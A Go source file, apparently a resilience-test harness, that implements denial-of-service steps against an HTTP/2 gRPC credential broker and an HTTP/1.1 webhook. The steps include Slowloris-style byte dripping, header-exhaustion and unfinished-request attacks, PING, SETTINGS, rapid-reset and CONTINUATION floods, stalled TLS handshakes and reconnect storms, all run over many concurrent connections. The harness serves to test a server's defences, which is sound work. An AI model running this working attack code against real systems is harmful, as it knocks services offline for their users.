// Package attack does to a server what a client without a token can do to it: hold connections that say nothing, requests
// that never end, headers that are as expensive as can be, floods of frames, and connect again at once.
//
// Each attack is a [Step] that one connection goes through, and [Run] keeps as many connections in it as it can, from an
// address of its own, until its context ends. It promises that nothing of it remains then. It does not judge the server:
// that is for tests, beside the attack.
package attack

import (
	"bytes"
	"context"
	"crypto/tls"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"net"
	"strconv"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// Target is a server, and whence it is attacked.
type Target struct {
	// Address is its HOST:PORT.
	Address string
	// Source is the local IP address, such as 127.0.0.3. Zero: any.
	Source string
	// TLS is the client's configuration. Steps for HTTP/2 need NextProtos "h2". Nil: there is no TLS.
	TLS *tls.Config
}

// Step attacks with one connection. After it has returned nil, the connection is held until the server closes it. An error
// ends the connection, and another one is opened. It returns soon after the connection was closed.
type Step func(ctx context.Context, conn net.Conn) error

// Count is what an attack has done so far. Its methods may be called concurrently.
type Count struct{ opened, held, sent atomic.Int64 }

// Opened returns how many connections were opened.
func (c *Count) Opened() int64 { return c.opened.Load() }

// Held returns how many connections are at the end of their step at present.
func (c *Count) Held() int64 { return c.held.Load() }

// Sent returns how many bytes TCP was given.
func (c *Count) Sent() int64 { return c.sent.Load() }

// pause is how long an attacker waits that the server has turned away. It is there for the attacker's sake: a ClientHello costs
// the one who makes it more than it costs a server to close the connection.
const pause = 100 * time.Millisecond

// Run keeps n connections in a step until ctx ends. It opens another one for each that has ended: at once if its step was
// complete, and otherwise a little later.
func Run(ctx context.Context, t Target, n int, step Step, count *Count) {
	var running sync.WaitGroup
	defer running.Wait()
	for range n {
		running.Go(func() {
			for ctx.Err() == nil {
				if err := t.once(ctx, step, count); err != nil && !errors.Is(err, errDone) {
					select {
					case <-time.After(pause):
					case <-ctx.Done():
					}
				}
			}
		})
	}
}

// counting counts the bytes that are written.
type counting struct {
	net.Conn
	sent *atomic.Int64
}

func (c counting) Write(b []byte) (int, error) {
	n, err := c.Conn.Write(b)
	c.sent.Add(int64(n))
	return n, err //nolint:wrapcheck // It adds nothing.
}

// once takes one connection through step, and holds it until either side closes it.
func (t Target) once(ctx context.Context, step Step, count *Count) error {
	dialer := net.Dialer{}
	if t.Source != "" {
		dialer.LocalAddr = &net.TCPAddr{IP: net.ParseIP(t.Source)}
	}
	tcp, err := dialer.DialContext(ctx, "tcp", t.Address)
	if err != nil {
		return fmt.Errorf("attacking %s: %w", t.Address, err)
	}
	// Whatever waits for the peer ends with ctx. There is no time to be polite.
	defer context.AfterFunc(ctx, func() { _ = tcp.Close() })()
	defer tcp.Close()
	count.opened.Add(1)
	var conn net.Conn = counting{tcp, &count.sent}
	if t.TLS != nil {
		secured := tls.Client(conn, t.TLS)
		if err := secured.HandshakeContext(ctx); err != nil {
			return fmt.Errorf("attacking %s: %w", t.Address, err)
		}
		conn = secured
	}
	if err := step(ctx, conn); err != nil {
		return err
	}
	count.held.Add(1)
	defer count.held.Add(-1)
	_, _ = io.CopyBuffer(io.Discard, struct{ io.Reader }{conn}, make([]byte, 512))
	return nil
}

// Reconnect closes each connection as soon as its handshake is done. With TLS, the handshake is the
// server's cost.
func Reconnect(context.Context, net.Conn) error { return errDone }

// errDone ends a connection whose step is complete.
var errDone = errors.New("done with this connection")

// Nothing says nothing. With TLS, it has done the handshake.
func Nothing(context.Context, net.Conn) error { return nil }

// h2 is the client's side of an HTTP/2 connection.
type h2 struct {
	conn   net.Conn
	framer *http2.Framer
	block  bytes.Buffer
	fields *hpack.Encoder
	out    bytes.Buffer // frames that have not been sent
}

// newH2 has what every HTTP/2 client says first, to be sent.
func newH2(conn net.Conn) *h2 {
	c := &h2{conn: conn}
	c.framer = http2.NewFramer(&c.out, conn)
	c.fields = hpack.NewEncoder(&c.block)
	c.out.WriteString(http2.ClientPreface)
	_ = c.framer.WriteSettings() // to memory
	return c
}

// greet sends what every HTTP/2 client says first.
func greet(conn net.Conn) (*h2, error) {
	c := newH2(conn)
	return c, c.flush()
}

func (c *h2) flush() error {
	_, err := c.conn.Write(c.out.Bytes())
	c.out.Reset()
	if err != nil {
		return fmt.Errorf("sending frames: %w", err)
	}
	return nil
}

// headers returns the block of a call of the broker's method, with further fields.
func (c *h2) headers(further ...hpack.HeaderField) []byte {
	c.block.Reset()
	for _, f := range append([]hpack.HeaderField{
		{Name: ":method", Value: "POST"}, {Name: ":scheme", Value: "https"},
		{Name: ":path", Value: "/credence.broker.v1.Broker/GetCredentials"}, {Name: ":authority", Value: "broker"},
		{Name: "content-type", Value: "application/grpc"}, {Name: "te", Value: "trailers"},
	}, further...) {
		_ = c.fields.WriteField(f) // to memory
	}
	return c.block.Bytes()
}

// maxFrame is the least that a server must take in one frame (RFC 9113, 4.2), and what most take.
const maxFrame = 16 << 10

// open sends a block of headers in as many frames as it needs. Without end, the last of it does not come.
func (c *h2) open(stream uint32, block []byte, end bool) error {
	first := true
	for {
		part := block[:min(len(block), maxFrame)]
		block = block[len(part):]
		last := end && len(block) == 0
		var err error
		if first {
			err = c.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: part, EndHeaders: last})
		} else {
			err = c.framer.WriteContinuation(stream, last, part)
		}
		if err != nil {
			return fmt.Errorf("writing HEADERS: %w", err)
		}
		if first = false; len(block) == 0 {
			return c.flush()
		}
	}
}

// Silent says what every HTTP/2 client says first, and nothing more.
func Silent(_ context.Context, conn net.Conn) error {
	_, err := greet(conn)
	return err
}

// OpenCall makes a call without its end, with a token that nobody signed.
func OpenCall(_ context.Context, conn net.Conn) error {
	c, err := greet(conn)
	if err != nil {
		return err
	}
	return c.open(1, c.headers(hpack.HeaderField{Name: "authorization", Value: "Bearer none"}), true)
}

// filler is a value that neither Huffman's code nor the dynamic table makes shorter.
func filler(n int) string { return string(bytes.Repeat([]byte{'~'}, n)) }

// never returns a field that does not enter the dynamic table.
func never(name string, bytes int) hpack.HeaderField {
	return hpack.HeaderField{Name: name, Value: filler(bytes), Sensitive: true}
}

// LargeHeaders opens streams calls with about size bytes of headers each, which do not end, and another whose headers do not
// end either. Servers count 32 bytes more a field (RFC 9113, 10.5.1).
func LargeHeaders(streams, size int) Step {
	return func(_ context.Context, conn net.Conn) error {
		c, err := greet(conn)
		if err != nil {
			return err
		}
		for i := range streams {
			if err := c.open(uint32(2*i+1), c.headers(never("authorization", size)), true); err != nil {
				return err
			}
		}
		return c.open(uint32(2*streams+1), c.headers(never("authorization", size)), false) //nolint:gosec // There are few.
	}
}

// smallFields are as many fields as a server may take that counts size bytes.
func smallFields(size int) []hpack.HeaderField {
	fields := make([]hpack.HeaderField, size/34-10)
	for i := range fields {
		fields[i] = hpack.HeaderField{Name: strconv.FormatInt(int64(i), 36), Sensitive: true}
	}
	return fields
}

// ManyHeaders is like LargeHeaders, but all headers are as small as headers can be, so that what a server keeps for each
// counts most.
func ManyHeaders(streams, size int) Step {
	return func(_ context.Context, conn net.Conn) error {
		c, err := greet(conn)
		if err != nil {
			return err
		}
		fields := smallFields(size)
		for i := range streams {
			if err := c.open(uint32(2*i+1), c.headers(fields...), true); err != nil {
				return err
			}
		}
		return c.open(uint32(2*streams+1), c.headers(fields...), false) //nolint:gosec // There are few.
	}
}

// CrumbledMessage opens a call and sends its message, of size bytes, in frames of one byte, without the last.
func CrumbledMessage(size int) Step {
	return func(_ context.Context, conn net.Conn) error {
		c, err := greet(conn)
		if err != nil {
			return err
		}
		if err := c.open(1, c.headers(), true); err != nil {
			return err
		}
		message := append([]byte{0}, binary.BigEndian.AppendUint32(nil, uint32(size))...) //nolint:gosec // It is small.
		for range size - 1 {
			message = append(message, 0)
		}
		for _, b := range message {
			if err := c.framer.WriteData(1, false, []byte{b}); err != nil {
				return fmt.Errorf("writing DATA: %w", err)
			}
		}
		return c.flush()
	}
}

// Everything makes a server hold as much as it can in each of its buffers: a frame and a TLS record as long as they may be,
// a call with many headers, some of its message in crumbs, and a block of many headers that does not end. It sends no more
// than total bytes.
func Everything(size, total int) Step {
	return func(_ context.Context, conn net.Conn) error {
		c, err := greet(conn)
		if err != nil {
			return err
		}
		// An extension frame, which is to be ignored (RFC 9113, 5.5).
		if err := errors.Join(c.framer.WriteRawFrame(0xfe, 0, 0, make([]byte, maxFrame-64)), c.flush()); err != nil {
			return err
		}
		fields := smallFields(size)
		if err := c.open(1, c.headers(fields...), true); err != nil {
			return err
		}
		last := bytes.Clone(c.headers(fields...))
		message := append([]byte{0}, binary.BigEndian.AppendUint32(nil, 4<<10)...)
		left := total - maxFrame - 2*len(last) - 1<<10 // and what TLS adds
		for i := 0; left > 0; i, left = i+1, left-10 {
			b := []byte{0}
			if i < len(message) {
				b[0] = message[i]
			}
			if err := c.framer.WriteData(1, false, b); err != nil {
				return fmt.Errorf("writing DATA: %w", err)
			}
		}
		return c.open(3, last, false)
	}
}

// UnfinishedHello begins a TLS handshake with a ClientHello of size bytes, whose last byte does not come. It is for a
// Target without TLS.
func UnfinishedHello(size int) Step {
	return func(_ context.Context, conn net.Conn) error {
		hello := append([]byte{1}, binary.BigEndian.AppendUint32(nil, uint32(size))[1:]...) //nolint:gosec // It is small. RFC 8446, 4
		hello = append(hello, make([]byte, size-1)...)
		var out []byte
		for len(hello) > 0 {
			part := hello[:min(len(hello), 16<<10)] // 5.1
			hello = hello[len(part):]
			out = binary.BigEndian.AppendUint16(append(out, 22, 3, 1), uint16(len(part))) //nolint:gosec // It is a record's.
			out = append(out, part...)
		}
		_, err := conn.Write(out)
		return err //nolint:wrapcheck // It ends the connection.
	}
}

// Drip sends the bytes of a call one at a time, with a pause between them, and never the last.
func Drip(every time.Duration) Step {
	return func(ctx context.Context, conn net.Conn) error {
		c := newH2(conn)
		_ = c.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: c.headers(never("authorization", 1000)), EndHeaders: true})
		return drip(ctx, conn, c.out.Bytes(), every)
	}
}

func drip(ctx context.Context, conn net.Conn, text []byte, every time.Duration) error {
	tick := time.NewTicker(every)
	defer tick.Stop()
	for i := range text[:len(text)-1] {
		if _, err := conn.Write(text[i : i+1]); err != nil {
			return err //nolint:wrapcheck // It ends the connection.
		}
		select {
		case <-tick.C:
		case <-ctx.Done():
			return ctx.Err()
		}
	}
	return nil
}

// flood sends what next writes until the connection is closed. Answers are read and dropped.
func flood(conn net.Conn, next func(c *h2, i uint32) error) error {
	c, err := greet(conn)
	if err != nil {
		return err
	}
	go func() { _, _ = io.Copy(io.Discard, conn) }() // ends with the connection
	for i := uint32(0); ; i++ {
		if err := next(c, i); err != nil {
			return err
		}
		if c.out.Len() >= 4<<10 {
			if err := c.flush(); err != nil {
				return err
			}
		}
	}
}

// Pings sends PING frames without end.
func Pings(_ context.Context, conn net.Conn) error {
	return flood(conn, func(c *h2, _ uint32) error { return c.framer.WritePing(false, [8]byte{}) })
}

// Settings sends SETTINGS frames without end.
func Settings(_ context.Context, conn net.Conn) error {
	return flood(conn, func(c *h2, _ uint32) error { return c.framer.WriteSettings() })
}

// Resets opens calls and resets each at once, without end.
func Resets(_ context.Context, conn net.Conn) error {
	return flood(conn, func(c *h2, i uint32) error {
		err := c.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 2*i + 1, BlockFragment: c.headers(), EndHeaders: true})
		return errors.Join(err, c.framer.WriteRSTStream(2*i+1, http2.ErrCodeCancel))
	})
}

// Continuations sends one block of headers without end.
func Continuations(_ context.Context, conn net.Conn) error {
	return flood(conn, func(c *h2, i uint32) error {
		if i == 0 {
			return c.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: c.headers()})
		}
		return c.framer.WriteContinuation(1, false, nil)
	})
}

// Calls makes one complete call after the other with a token that nobody signed. It waits for each answer.
func Calls(token string) Step {
	return func(_ context.Context, conn net.Conn) error {
		c, err := greet(conn)
		if err != nil {
			return err
		}
		for i := uint32(0); ; i++ {
			stream := 2*i + 1
			if err := c.open(stream, c.headers(hpack.HeaderField{Name: "authorization", Value: "Bearer " + token}), true); err != nil {
				return err
			}
			if err := errors.Join(c.framer.WriteData(stream, true, make([]byte, 5)), c.flush()); err != nil {
				return err
			}
			for {
				frame, err := c.framer.ReadFrame()
				if err != nil {
					return err //nolint:wrapcheck // It ends the connection.
				}
				if frame.Header().StreamID == stream && frame.Header().Flags.Has(http2.FlagDataEndStream) || frame.Header().Type == http2.FrameRSTStream {
					break
				}
				if settings, ok := frame.(*http2.SettingsFrame); ok && !settings.IsAck() {
					if err := c.framer.WriteSettingsAck(); err != nil {
						return err //nolint:wrapcheck // It ends the connection.
					}
				}
			}
		}
	}
}

// KeepAlive asks for path once by HTTP/1.1, and keeps the connection.
func KeepAlive(path string) Step {
	return func(_ context.Context, conn net.Conn) error {
		if _, err := io.WriteString(conn, "GET "+path+" HTTP/1.1\r\nHost: webhook\r\n\r\n"); err != nil {
			return err //nolint:wrapcheck // It ends the connection.
		}
		_, err := conn.Read(make([]byte, 512))
		return err //nolint:wrapcheck // It ends the connection.
	}
}

// request is the head of an HTTP/1.1 request for a review, with about size bytes of headers, and no end.
func request(size int) []byte {
	return fmt.Appendf(nil, "POST /mutate HTTP/1.1\r\nHost: webhook\r\nContent-Type: application/json\r\nX: %s\r\n", filler(size))
}

// OpenHead sends a request by HTTP/1.1 with about size bytes of headers, which do not end.
func OpenHead(size int) Step {
	return func(_ context.Context, conn net.Conn) error {
		_, err := conn.Write(request(size))
		return err //nolint:wrapcheck // It ends the connection.
	}
}

// ManyHeads is like OpenHead, but all headers are as small as headers can be.
func ManyHeads(size int) Step {
	return func(_ context.Context, conn net.Conn) error {
		out := request(0)
		for i := 0; len(out) < size; i++ {
			out = fmt.Appendf(out, "%s:\r\n", strconv.FormatInt(int64(i), 36))
		}
		_, err := conn.Write(out)
		return err //nolint:wrapcheck // It ends the connection.
	}
}

// OpenBody sends a request by HTTP/1.1 with about size bytes of headers, and says that a body of length bytes follows, of
// which one byte comes each time. Zero: none comes.
func OpenBody(size, length int, every time.Duration) Step {
	return func(ctx context.Context, conn net.Conn) error {
		if _, err := conn.Write(fmt.Appendf(request(size), "Content-Length: %d\r\n\r\n", length)); err != nil {
			return err //nolint:wrapcheck // It ends the connection.
		}
		if every == 0 {
			return nil
		}
		return drip(ctx, conn, bytes.Repeat([]byte{' '}, length), every)
	}
}
